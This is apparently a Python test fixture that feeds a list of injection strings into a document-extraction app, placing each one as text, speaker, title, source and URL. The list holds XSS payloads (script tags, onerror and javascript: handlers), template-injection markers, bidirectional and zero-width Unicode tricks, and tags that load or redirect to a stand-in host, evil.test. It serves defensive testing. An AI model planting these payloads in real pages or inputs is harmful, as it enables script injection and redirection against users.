"""What somebody could put into a text in order to have it done by whoever looks at it."""

import re
from typing import Any

from app.extract import Mention
from app.vocabulary import SpeakerKind
from tests.conftest import AddDocument
from tests.drafts import statistic

_OVERRIDE, _ISOLATE, _POP = "\u202e", "\u2067", "\u2069"

PAYLOADS = [
    "<script>alert(1)</script>",
    "</p></blockquote><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>here</a>",
    "javascript:alert(1)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>*{background:url(http://evil.test/x)}</style>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content=0;url=http://evil.test/>",
    "<form action=http://evil.test/><button autofocus>x</button></form>",
    "<object data=http://evil.test/x></object>",
    "<!--><script>alert(1)</script-->",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% for x in y %}{{ self }}",
    "${alert(1)} `alert(1)`",
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    f"reversal {_OVERRIDE}000,9 ,dead",
    f"isolated {_ISOLATE}dead 9{_POP}",
    "\u202a\u202b\u202d five \u202c",
    "\u2066\u2068 six \u2069",
    "zero\u200bwidth\u200c and\u200d join\ufeffed",
    "marks \u200e\u200f\u061c of direction",
    "line\u2028and paragraph\u2029separators",
    "<math><mtext></p><script>alert(1)</script>",
    "tags \U000e0041\U000e007f and soft\u00adhyphen",
    "long" * 2000,
    "م" * 300,
    "combining" + "\u0301\u0489" * 200,
    "%3Cscript%3Ealert(1)%3C/script%3E",
]


_NOT_IN_A_LINE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")
"""What is refused where one line is wanted."""


def add_payloads(add_document: AddDocument) -> list[str]:
    """A document for each, which is its evidence, its title, its source, its speaker and what it counts."""
    return [_add(add_document, number, payload) for number, payload in enumerate(PAYLOADS)]


def _add(add_document: AddDocument, number: int, payload: str) -> str:
    text = f"Note {number}\n{payload} said 9 people fell {payload}.\n"
    words = text[text.index(payload) :].rstrip("\n")
    name = _NOT_IN_A_LINE.sub(" ", payload)[:150].strip()
    who = Mention(name, SpeakerKind.PERSON, slug=f"speaker-{number}", role=name)
    columns: dict[str, Any] = {"speaker": who, "attributed_text": name, "value_text": name, "item": name}
    unit = "item" if number % 2 else "people"
    draft = statistic(text, words, **columns, unit=unit, relays=(who,), value_low=9.0, value_high=9.0)
    facts: dict[str, Any] = {"source": name, "title": name, "url": f"https://paper.test/{number}?{name}"[:1900]}
    return add_document(text, [draft], **facts).document_id
